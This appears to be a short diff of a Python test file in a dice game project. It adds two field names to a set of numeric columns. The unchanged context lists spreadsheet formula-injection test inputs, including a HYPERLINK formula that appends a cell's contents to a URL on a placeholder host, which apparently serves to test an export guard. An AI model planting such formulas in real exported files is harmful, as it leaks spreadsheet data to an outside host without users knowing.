@@ -16,7 +16,7 @@ from dicelab.players import make_player
 
 HOSTILE = ['=HYPERLINK("http://x"&A2,"Open")', "@SUM(A1:A9)", "+1", "-1", "\t=1"]
 NUMBERS = {"index", "turn", "choice_value", "best_value", "lost", "win_choice_value",
-           "win_best_value", "win_lost"}
+           "win_best_value", "win_lost", "luck_before", "luck"}
 
 
 def unguard(cell: str) -> str:
